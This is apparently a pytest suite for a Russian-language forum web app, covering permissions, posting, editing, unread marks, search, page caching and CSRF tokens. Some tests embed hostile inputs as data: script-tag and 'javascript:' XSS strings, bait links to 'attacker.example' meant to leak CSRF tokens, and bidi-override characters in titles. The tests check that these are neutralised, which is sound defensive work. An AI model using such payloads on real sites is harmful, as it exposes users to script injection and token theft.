"""The forum over HTTP: who sees what, topics, replies, preview, quoting, editing, unread marks."""

import re
import sqlite3
import time

from portal.core.db import CHECKPOINTER, connect
from portal.core.security import CSRF_PLACEHOLDER
from portal.forum import ranking as forum_ranking
from portal.forum import search as forum_search
from portal.forum import store
from tests.forum_fixtures import reply_to, start_topic, topic_id_of
from tests.portal_fixtures import make_user, sign_in, submit


def test_everyone_sees_the_categories_and_the_way_in(client, forum):
    html = client.get("/forum/").text
    assert "Общие вопросы" in html and "Объявления" in html and "Для сотрудников" not in html
    assert "/account/register?next=/forum/" in html and 'href="/forum/c/obshchee/"' not in html


def test_non_members_are_shown_the_way_in_not_the_topics(client, registered, forum):
    response = registered.client.get("/forum/c/obshchee/")
    assert response.status_code == 403 and "компанию и телефон" in response.text
    registered.client.cookies.clear()
    anonymous = registered.client.get("/forum/t/1/")
    assert anonymous.status_code == 403 and "/account/register?next=" in anonymous.text


def test_member_starts_a_topic_and_another_replies(member, other, forum):
    response = start_topic(member.client)
    assert response.status_code == 303
    topic_id = topic_id_of(response)
    page = other.get(f"/forum/t/{topic_id}/")
    assert "Как подключить DALI-драйвер?" in page.text and "Подскажите схему подключения." in page.text
    answer = reply_to(other, topic_id, "Смотрите **схему 3**: шина отдельно от питания.")
    assert answer.status_code == 303 and answer.headers["location"].endswith("#p2")
    html = member.client.get(f"/forum/t/{topic_id}/").text
    assert "<strong>схему 3</strong>" in html and 'id="p2"' in html
    listing = member.client.get("/forum/c/obshchee/").text
    assert "Олег Люменов" in listing  # the last poster


def test_preview_shows_the_rendered_text_and_keeps_the_form(member, forum):
    response = submit(member.client, "/forum/c/obshchee/new", "/forum/c/obshchee/new",
                      {"title": "Тема с предпросмотром", "body": "*курсив*", "preview": "1"})
    assert response.status_code == 200 and "<em>курсив</em>" in response.text
    assert 'value="Тема с предпросмотром"' in response.text and "*курсив*</textarea>" in response.text
    assert store.list_topics(member.client.app.state.portal.db, forum, None)[0] == []


def test_too_long_or_too_short_input_is_refused_and_kept(member, forum):
    long_title = "Очень длинный заголовок " * 10
    response = start_topic(member.client, title=long_title, body="x")
    assert response.status_code == 400
    assert "Заголовок длиннее 150 символов" in response.text and "хотя бы пару слов" in response.text
    assert long_title.strip() in response.text
    huge = reply_to(member.client, topic_id_of(start_topic(member.client)), "слово " * 5000)
    assert huge.status_code == 400 and "длиннее 20000 символов" in huge.text


def test_user_html_is_never_trusted(member, other, forum):
    topic_id = topic_id_of(start_topic(member.client, body='<script>alert(1)</script> [x](javascript:alert(1))'))
    html = other.get(f"/forum/t/{topic_id}/").text
    assert "<script>alert(1)" not in html and 'href="javascript:' not in html


def test_quote_prefills_the_reply_with_a_linked_quote(member, other, forum):
    topic_id = topic_id_of(start_topic(member.client, body="Первая строка.\n\nВторая строка."))
    form = other.get(f"/forum/t/{topic_id}/reply?quote=1").text
    assert "&gt; Первая строка." in form and f"/forum/t/{topic_id}/?page=1#p1" in form
    reply_to(other, topic_id, "> Вторая строка.\n\nСогласен.")
    assert "<blockquote>" in member.client.get(f"/forum/t/{topic_id}/").text


def test_mentions_link_to_the_member(member, other, forum):
    topic_id = topic_id_of(start_topic(member.client))
    handle = member.client.app.state.portal.db.execute("SELECT handle FROM users WHERE email = ?",
                                                       [member.email]).fetchone()[0]
    reply_to(other, topic_id, f"@{handle}, посмотрите схему.")
    html = other.get(f"/forum/t/{topic_id}/").text
    assert f'href="/forum/u/{handle}"' in html
    assert member.user.name in other.get(f"/forum/u/{handle}").text


def test_unread_mark_and_jump_to_first_unread(member, other, forum):
    topic_id = topic_id_of(start_topic(member.client))
    assert "непрочитанное" not in member.client.get("/forum/c/obshchee/").text  # own topic is read
    for n in range(3):
        reply_to(other, topic_id, f"Ответ номер {n}")
    assert "непрочитанное" in member.client.get("/forum/c/obshchee/").text
    jump = member.client.get(f"/forum/t/{topic_id}/?unread", follow_redirects=False)
    assert jump.headers["location"] == f"/forum/t/{topic_id}/?page=1#p2"
    member.client.get(f"/forum/t/{topic_id}/")
    assert "непрочитанное" not in member.client.get("/forum/c/obshchee/").text


def test_pagination_uses_real_links(member, other, forum, app):
    db = app.state.portal.db
    topic = store.get_topic(db, topic_id_of(start_topic(member.client)))
    author = make_user(db, "many@example.ru", member=True)
    for n in range(25):
        store.add_reply(db, topic, author, f"Ответ {n}")
    first = other.get(f"/forum/t/{topic.id}/").text
    assert f'href="/forum/t/{topic.id}/?page=2"' in first and "Ответ 18" in first and "Ответ 19" not in first
    second = other.get(f"/forum/t/{topic.id}/?page=2").text
    assert "Ответ 19" in second and "Ответ 24" in second
    assert other.get(f"/forum/t/{topic.id}/?page=abc").status_code == 400


def test_only_the_author_edits_and_keeps_history(member, other, forum, app):
    topic_id = topic_id_of(start_topic(member.client, body="Старый текст"))
    post = store.list_posts(app.state.portal.db, store.get_topic(app.state.portal.db, topic_id), 1)[0]
    assert other.get(f"/forum/p/{post.id}/edit").status_code == 403
    refused = submit(other, f"/forum/t/{topic_id}/", f"/forum/p/{post.id}/edit", {"body": "Чужая правка"})
    assert refused.status_code == 403
    done = submit(member.client, f"/forum/p/{post.id}/edit", f"/forum/p/{post.id}/edit", {"body": "Новый текст"})
    assert done.status_code == 303
    html = other.get(f"/forum/t/{topic_id}/").text
    assert "Новый текст" in html and "Старый текст" not in html and "(изменено)" in html
    assert store.revisions(app.state.portal.db, post.id)[0]["body"] == "Старый текст"


def test_the_change_window_closes_for_authors(member, forum, app):
    db = app.state.portal.db
    topic_id = topic_id_of(start_topic(member.client))
    db.execute("UPDATE forum_posts SET created_at = ?", [time.time() - 2 * 86400])
    post = store.list_posts(db, store.get_topic(db, topic_id), 1)[0]
    assert member.client.get(f"/forum/p/{post.id}/edit").status_code == 403


def test_author_deletes_a_reply_but_not_someone_elses(member, other, forum, app):
    topic_id = topic_id_of(start_topic(member.client))
    reply_to(other, topic_id, "Ответ, который удалят")
    db = app.state.portal.db
    post = store.list_posts(db, store.get_topic(db, topic_id), 1)[1]
    assert submit(member.client, f"/forum/t/{topic_id}/", f"/forum/p/{post.id}/delete", {}).status_code == 403
    assert submit(other, f"/forum/t/{topic_id}/", f"/forum/p/{post.id}/delete", {}).status_code == 303
    assert "Сообщение удалено автором" in member.client.get(f"/forum/t/{topic_id}/").text


def test_announcements_are_for_staff_to_post(member, forum):
    response = start_topic(member.client, slug="novosti")
    assert response.status_code == 403 and "только сотрудники" in response.text


def test_staff_only_category_is_invisible_to_members(member, forum):
    assert member.client.get("/forum/c/shtab/").status_code == 404


def test_new_members_may_start_only_a_few_topics_a_day(member, forum):
    for n in range(3):
        assert start_topic(member.client, title=f"Тема номер {n}").status_code == 303
    refused = start_topic(member.client, title="Четвёртая тема", body="Текст четвёртой темы")
    assert refused.status_code == 429 and "не больше 3 в сутки" in refused.text
    assert "Текст четвёртой темы" in refused.text


def test_new_since_last_visit(member, other, forum):
    topic_id = topic_id_of(start_topic(other, title="Свежая тема для всех"))
    assert "Свежая тема для всех" in member.client.get("/forum/new").text
    assert f"/forum/t/{topic_id}/" in member.client.get("/forum/new").text


def test_search_finds_word_forms(member, other, forum):
    start_topic(other, title="Выбор светильников для склада", body="Нужны светильники с высокой защитой.")
    html = member.client.get("/forum/search?q=светильник").text
    assert "Выбор светильников для склада" in html and "<mark>" in html


def test_commits_leave_checkpoints_to_the_checkpoint_thread(member, forum, app, settings):
    db = app.state.portal.db
    assert db.execute("PRAGMA wal_autocheckpoint").fetchone()[0] == 0  # never inside a request's commit
    start_topic(member.client, title="Тема в журнале WAL")
    CHECKPOINTER.checkpoint_all()  # the thread's round, run now
    main_file = sqlite3.connect(f"file:{settings.database}?immutable=1", uri=True)  # ignores the WAL
    try:
        assert main_file.execute("SELECT title FROM forum_topics").fetchall() == [("Тема в журнале WAL",)]
    finally:
        main_file.close()


def test_category_counts_and_unread_per_reader(member, other, forum, app):
    db = app.state.portal.db
    read_through = topic_id_of(start_topic(other, title="Прочитана до конца"))
    half_read = topic_id_of(start_topic(other, title="Прочитана наполовину"))
    topic_id_of(start_topic(other, title="Не открыта"))
    member.client.get(f"/forum/t/{read_through}/")
    member.client.get(f"/forum/t/{half_read}/")
    reply_to(other, half_read, "Новый ответ после прочтения")
    counts = {c.slug: (c.topic_count, c.post_count, c.unread) for c in store.list_categories(db, member.user)}
    assert counts == {"novosti": (0, 0, 0), "obshchee": (3, 4, 2), "shtab": (0, 0, 0)}
    assert "непрочитанных тем: 2" in member.client.get("/forum/").text
    assert [c.slug for c in store.categories(db)] == ["novosti", "obshchee", "shtab"]
    announcements = store.get_category(db, "novosti")
    assert store.readable_category_ids(db, member.user) == [announcements.id, forum.id]  # not the staff room


def test_a_visit_is_written_once_a_minute_not_on_every_page(member, forum, app):
    db = app.state.portal.db
    member.client.get("/forum/new")
    first = db.execute("SELECT last_seen, previous_visit FROM forum_visits").fetchall()
    member.client.get("/forum/new")
    changes = db.conn.total_changes
    member.client.get("/forum/new")
    assert db.conn.total_changes == changes  # nothing written
    assert db.execute("SELECT last_seen, previous_visit FROM forum_visits").fetchall() == first
    db.execute("UPDATE forum_visits SET last_seen = last_seen - ?", [store.VISIT_TOUCH + 1])
    member.client.get("/forum/new")
    assert db.execute("SELECT last_seen FROM forum_visits").fetchone()[0] > first[0][0]


def test_a_cached_topic_page_follows_writes_from_another_worker(member, other, forum, app, settings):
    topic_id = topic_id_of(start_topic(member.client, body="Первая версия текста"))
    assert "Первая версия текста" in other.get(f"/forum/t/{topic_id}/").text  # now cached
    worker = connect(settings.database)  # another process's connection: the page cache cannot see its writes
    try:
        worker.execute("UPDATE forum_posts SET html = '<p>Правка из другого процесса</p>' WHERE topic_id = ?",
                       [topic_id])
        worker.execute("UPDATE users SET name = 'Анна Переименованная' WHERE id = ?", [member.user.id])
    finally:
        worker.conn.close()
    html = other.get(f"/forum/t/{topic_id}/").text
    assert "Правка из другого процесса" in html and "Анна Переименованная" in html
    assert "Первая версия текста" not in html


def test_members_share_a_cached_page_but_each_sees_their_own_rights_and_token(member, other, forum, app):
    topic_id = topic_id_of(start_topic(member.client, body="Текст автора"))
    reply_to(other, topic_id, "Ответ второго участника")
    db = app.state.portal.db
    first, second = store.list_posts(db, store.get_topic(db, topic_id), 1)
    pages = {who: client.get(f"/forum/t/{topic_id}/").text for who, client in (("author", member.client),
                                                                                  ("other", other))}
    for who, own, foreign in (("author", first, second), ("other", second, first)):
        html = pages[who]
        assert f"/forum/p/{own.id}/edit" in html and f"/forum/p/{foreign.id}/edit" not in html
        assert f"/forum/p/{foreign.id}/flag" in html and f"/forum/p/{own.id}/flag" not in html
        tokens = set(re.findall(r'name="csrf" value="([^"]+)"', html))
        assert len(tokens) == 1 and CSRF_PLACEHOLDER not in html  # one token: this session's
    assert set(re.findall(r'name="csrf" value="([^"]+)"', pages["author"])) != \
        set(re.findall(r'name="csrf" value="([^"]+)"', pages["other"]))
    deleted = submit(other, f"/forum/t/{topic_id}/", f"/forum/p/{second.id}/delete", {})
    assert deleted.status_code == 303  # the token taken from the cached page works


def test_member_text_cannot_carry_readers_csrf_tokens_off_site(member, other, forum):
    # The old fixed placeholder and the live one: neither may turn into a reader's token in a link.
    bait = (f"[old](https://attacker.example/log?t=csrf-placeholder-9d1c) "
            f"[live](https://attacker.example/log?t={CSRF_PLACEHOLDER}) "
            f'and name="csrf" value="{CSRF_PLACEHOLDER}" in text')
    topic_id = topic_id_of(start_topic(member.client, body=bait))
    reply_to(other, topic_id, bait)
    for reader in (member.client, other):
        html = reader.get(f"/forum/t/{topic_id}/").text
        token = re.search(r'name="csrf" value="([^"]+)"', html).group(1)
        fields = len(re.findall(f'name="csrf" value="{token}"', html))
        assert html.count(token) == fields > 0  # the token appears only in hidden form fields
        assert "attacker.example/log?t=" + token not in html


def test_reading_a_topic_again_writes_nothing(member, other, forum, app):
    topic_id = topic_id_of(start_topic(other))
    db = app.state.portal.db
    member.client.get(f"/forum/t/{topic_id}/")  # marks it read
    changes = db.conn.total_changes
    member.client.get(f"/forum/t/{topic_id}/")
    member.client.get(f"/forum/t/{topic_id}/")
    assert db.conn.total_changes == changes
    reply_to(other, topic_id, "Новый ответ")
    member.client.get(f"/forum/t/{topic_id}/")
    assert store.get_topic(db, topic_id, member.user).last_read == 2  # the mark moves when there is more


def test_search_page_says_when_the_total_is_capped_or_time_ran_out(member, other, forum, monkeypatch):
    topic_id = topic_id_of(start_topic(other, title="Подвесы для трека", body="Подвесы нужны."))
    for n in range(3):
        reply_to(other, topic_id, f"Подвесы, вариант {n}")
    assert "Найдено: 4<" in member.client.get("/forum/search?q=подвесы").text
    monkeypatch.setattr(forum_search, "RANK_WINDOW", 3)
    assert "Найдено: 3+" in member.client.get("/forum/search?q=подвесы").text
    monkeypatch.setattr(forum_ranking, "expired", lambda _at: True)
    # a query not asked before: a complete ranking is cached until the database changes
    html = member.client.get("/forum/search?q=нужны подвесы").text
    assert "Поиск остановлен по времени" in html and "Найдено: 0" in html
    monkeypatch.setattr(forum_ranking, "expired", lambda _at: False)
    english = member.client.get("/forum/search?q=подвесы&lang=en").text
    assert "Found: 3+" in english and "ran out of time" not in english


def test_staff_category_title_and_description_are_stored_on_one_line(client, app, forum):
    make_user(app.state.portal.db, "staff@example.ru", role="admin")
    sign_in(client, "staff@example.ru")
    response = submit(client, "/staff/forum", "/staff/forum", {
        "slug": "svet", "title": "Свет\r\nи\x00 тень\u202e", "description": "Всё\nо свете\u2029",
        "position": "5", "read_level": "members", "post_level": "members"})
    assert response.status_code == 303
    category = store.get_category(app.state.portal.db, slug="svet")
    assert (category.title, category.description) == ("Свет и тень", "Всё о свете")


def test_a_title_with_a_newline_typed_into_the_form_is_stored_on_one_line(member, forum, app):
    topic_id = topic_id_of(start_topic(member.client, title="Драйвер\r\nDALI\x00 \u202eи схема\u2028подключения"))
    assert store.get_topic(app.state.portal.db, topic_id).title == "Драйвер DALI и схема подключения"
    assert "<title>Драйвер DALI и схема подключения" in member.client.get(f"/forum/t/{topic_id}/").text


def test_latest_topics_span_the_readable_categories_newest_first(member, other, forum, app):
    db = app.state.portal.db
    first = topic_id_of(start_topic(member.client, title="Драйвер гудит"))
    second = topic_id_of(start_topic(member.client, title="Кабель для трека"))
    staff = make_user(db, "boss@lior.example", role="admin", name="Ирина Главная")
    hidden = store.create_topic(db, store.get_category(db, slug="shtab"), staff, "Планы на квартал", "Только нам")[0]
    reply_to(other, first, "Проверьте землю")  # the older topic moves up
    html = member.client.get("/forum/latest").text
    assert html.index(f"/forum/t/{first}/") < html.index(f"/forum/t/{second}/")
    assert "Общие вопросы" in html and f"/forum/t/{hidden.id}/" not in html and "Планы на квартал" not in html
    assert 'href="/forum/latest"' in member.client.get("/forum/").text
    assert member.client.get("/forum/latest?page=abc").status_code == 400
    assert member.client.get("/forum/latest?page=9999").status_code == 200  # past the end: the last page
    assert "<h1>Latest topics</h1>" in member.client.get("/forum/latest?lang=en").text


def test_latest_topics_are_for_members(client, registered, forum):
    assert registered.client.get("/forum/latest", follow_redirects=False).status_code in (302, 303, 403)
